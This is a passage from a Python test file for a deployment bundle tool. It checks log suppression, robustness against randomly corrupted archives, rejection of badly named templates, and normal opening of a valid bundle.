            "    from ddtree_ops.cli.commands import keep_library_logs_off_stderr\n"
            "    keep_library_logs_off_stderr()\n"
            "logging.getLogger('paramiko.transport').error('Exception (client): Error reading SSH protocol banner')\n")
    for mode, printed in (("cli", ""), ("bare", "Error reading SSH protocol banner\n")):
        r = subprocess.run([sys.executable, "-c", code, mode], capture_output=True, text=True, timeout=60,
                           stdin=subprocess.DEVNULL)
        assert r.returncode == 0 and r.stderr.endswith(printed) and bool(r.stderr) == bool(printed), (mode, r.stderr)


def test_random_corruption_is_always_a_bundle_error_never_a_crash(tmp_path, good):
    """Byte flips, cuts and splices in the compressed file and in the tar inside it."""
    rng = random.Random(1100)
    data = good.path.read_bytes()
    raw = gzip.decompress(data)
    path = tmp_path / "fuzz.tar.gz"
    outcomes = {"ok": 0, "refused": 0}
    for i in range(300):
        src = bytearray(raw if i % 2 else data)
        for _ in range(rng.randint(1, 4)):
            op = rng.choice(("flip", "cut", "splice", "zero"))
            pos = rng.randrange(len(src))
            if op == "flip":
                src[pos] ^= 1 << rng.randrange(8)
            elif op == "cut":
                del src[pos: pos + rng.randint(1, 600)]
            elif op == "splice":
                src[pos:pos] = rng.randbytes(rng.randint(1, 600))
            else:
                src[pos: pos + 512] = bytes(min(512, len(src) - pos))
        path.write_bytes(gzip.compress(bytes(src), mtime=0) if i % 2 else bytes(src))
        try:
            with open_bundle(path):
                outcomes["ok"] += 1
        except BundleError as e:
            assert "\n" not in str(e) and str(path) in str(e)
            outcomes["refused"] += 1
    assert outcomes["refused"] > 250, outcomes


def test_what_the_reader_refuses_the_builder_does_not_build(tmp_path):
    ps = write_patchset(tmp_path / "ps", {PROBE_REL: b"P = 1\n"}, name="x")
    tdir = tmp_path / "t"
    tdir.mkdir()
    (tdir / "bad name.j2").write_text("[Service]\n")
    with pytest.raises(InputError, match="cannot bundle templates/bad name.j2"):
        build_bundle(str(ps), tmp_path / "dist", tdir)


def test_a_good_bundle_still_opens_and_reads_as_before(good):
    with open_bundle(good.path) as b:
        assert b.id == good.id and b.sha256 == good.sha256 and b.signed_by == ()
        assert (b.templates_dir / "sglang-ddtree.service.j2").is_file()
        assert b.patchset.name == "hostile" and b.patchset.digest() == good.manifest["patchset"]["digest"]
